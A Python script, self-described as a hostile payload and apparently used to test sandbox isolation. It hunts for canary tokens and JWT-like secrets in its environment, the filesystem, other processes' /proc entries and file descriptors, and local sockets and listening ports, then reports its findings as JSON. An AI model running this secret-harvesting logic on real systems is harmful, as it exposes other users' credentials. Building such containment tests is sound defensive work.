"""A hostile payload: looks for secrets everywhere, and says as JSON where it found one and what it looked through."""

# ruff: noqa: PTH116, PTH118, PTH208
import json
import os
import re
import socket
import stat
import sys
from pathlib import Path

# Composed here, so that this file does not find itself.
SECRET = re.compile(
    ("fallow-" + "canary-[0-9a-f]+").encode() + b"|" + ("ey" + "J").encode() + rb"[\w-]+\.[\w-]+\.[\w-]{20,}"
)
LARGEST = 8 << 20
found: set[str] = set()
looked: dict[str, int] = {}


def look(kind: str, where: str, content: bytes) -> None:
    looked[kind] = looked.get(kind, 0) + 1
    for match in SECRET.findall(content):
        found.add(f"{kind} {where}: {match[:40].decode()}")


def read(path: str) -> bytes:
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, LARGEST) if stat.S_ISREG(os.fstat(descriptor).st_mode) else b""
    finally:
        os.close(descriptor)


def look_at(kind: str, path: str) -> None:
    try:
        look(kind, path, read(path))
    except OSError:
        looked["refused"] = looked.get("refused", 0) + 1


def walk(kind: str, top: str, without: int) -> None:
    """Every file below `top`, but those of the file system `without`: the image's, which has a digest."""
    for directory, names, files in os.walk(top):
        names[:] = [name for name in names if os.path.join(directory, name) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(directory, name)
            try:
                if os.lstat(path).st_dev != without:
                    look_at(kind, path)
            except OSError:
                continue


def processes(proc: str) -> list[str]:
    return [name for name in os.listdir(proc) if name.isdigit()]


def ask(family: int, address: "str | tuple[str, int]") -> None:
    try:
        with socket.socket(family) as connection:
            connection.settimeout(0.5)
            connection.connect(address)
            connection.sendall(b"GET / HTTP/1.0\r\n\r\n")
            look("socket", str(address), connection.recv(65536))
    except OSError:
        looked["refused"] = looked.get("refused", 0) + 1


image = os.stat("/usr/bin").st_dev
look("environment", "own", json.dumps(dict(os.environ)).encode())
walk("file", "/", image)
pids = processes("/proc")
for pid in pids:
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        look_at(name, f"/proc/{pid}/{name}")
    for name in ("fd", "map_files"):
        try:
            for entry in os.listdir(f"/proc/{pid}/{name}"):
                look_at(name, f"/proc/{pid}/{name}/{entry}")
        except OSError:
            looked["refused"] = looked.get("refused", 0) + 1
    if pid != str(os.getpid()):
        for name in ("root", "cwd"):
            walk(name, f"/proc/{pid}/{name}/home", image)
            walk(name, f"/proc/{pid}/{name}/scratch", image)
for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
    path = line.split()[7:]
    if path:
        ask(socket.AF_UNIX, path[0].replace("@", "\0", 1))
for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
    words = line.split()
    if words[3] == "0A":
        address, port = words[1].split(":")
        number = int(address, 16).to_bytes(4, "little")
        ask(socket.AF_INET, (socket.inet_ntoa(number), int(port, 16)))
json.dump({"found": sorted(found), "looked": looked, "pids": pids, "uid": os.getuid()}, sys.stdout)
